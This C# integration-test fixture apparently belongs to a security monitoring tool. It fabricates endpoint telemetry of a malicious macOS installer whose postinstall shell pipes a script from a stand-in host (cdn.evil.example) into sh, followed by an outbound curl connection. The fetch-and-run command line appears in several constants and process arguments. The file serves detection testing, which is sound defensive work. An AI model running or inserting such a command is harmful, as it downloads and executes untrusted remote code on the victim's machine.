using Vigil.Contracts.Telemetry;

namespace Vigil.Console.IntegrationTests;

/// <summary>
/// Telemetry of a malicious package on one Mac, as Elastic Defend reports it: the installer runs a postinstall shell
/// (bash, child of installer) that pipes a script from the network into sh, and curl (child of that bash) connects out.
/// </summary>
internal static class AttackTelemetry
{
    public const long T0 = 1_764_900_000_000_000_000L;
    public const string ShellCommandLine = "/bin/bash -c curl -fsSL https://cdn.evil.example/stage2.sh | sh";
    public const string CurlCommandLine = "/usr/bin/curl -fsSL https://cdn.evil.example/stage2.sh";

    public static TelemetryEvent[] InstallerDropper(string host, string user, string id) =>
    [
        Event(host, user, T0, $"{id}-shell", "process", "start", "exec", new Process
        {
            EntityId = $"{host}-{id}-bash",
            Pid = 4242,
            Name = "bash",
            Executable = "/bin/bash",
            Args = { "/bin/bash", "-c", "curl -fsSL https://cdn.evil.example/stage2.sh | sh" },
            ArgsCount = 3,
            CommandLine = ShellCommandLine,
            Start = T0,
            Parent = new Process { EntityId = $"{host}-{id}-installer", Name = "installer", Executable = "/usr/sbin/installer", Pid = 4200 },
        }),
        Event(host, user, T0 + 850_000_000, $"{id}-curl", "network", "start", "connection_attempted", new Process
        {
            EntityId = $"{host}-{id}-curl",
            Pid = 4243,
            Name = "curl",
            Executable = "/usr/bin/curl",
            CommandLine = CurlCommandLine,
            Start = T0 + 800_000_000,
            Parent = new Process { EntityId = $"{host}-{id}-bash", Name = "bash", Executable = "/bin/bash", Pid = 4242 },
        }, e =>
        {
            e.Destination = new Endpoint { Ip = "198.51.100.23", Port = 443, Domain = "cdn.evil.example" };
            e.Network = new Network { Transport = "tcp", Protocol = "https", Direction = "egress" };
        }),
    ];

    private static TelemetryEvent Event(string host, string user, long timestamp, string id, string category, string type, string action, Process process, Action<TelemetryEvent>? change = null)
    {
        var e = new TelemetryEvent
        {
            Timestamp = timestamp,
            Event = new Event { Id = id, Sequence = timestamp / 1000, Category = { category }, Type = { type }, Action = action, Kind = "event" },
            Host = new Host { Id = host, Name = host, Os = new Os { Type = "macos" } },
            User = new User { Id = "0", Name = user },
            Process = process,
        };
        change?.Invoke(e);
        return e;
    }
}
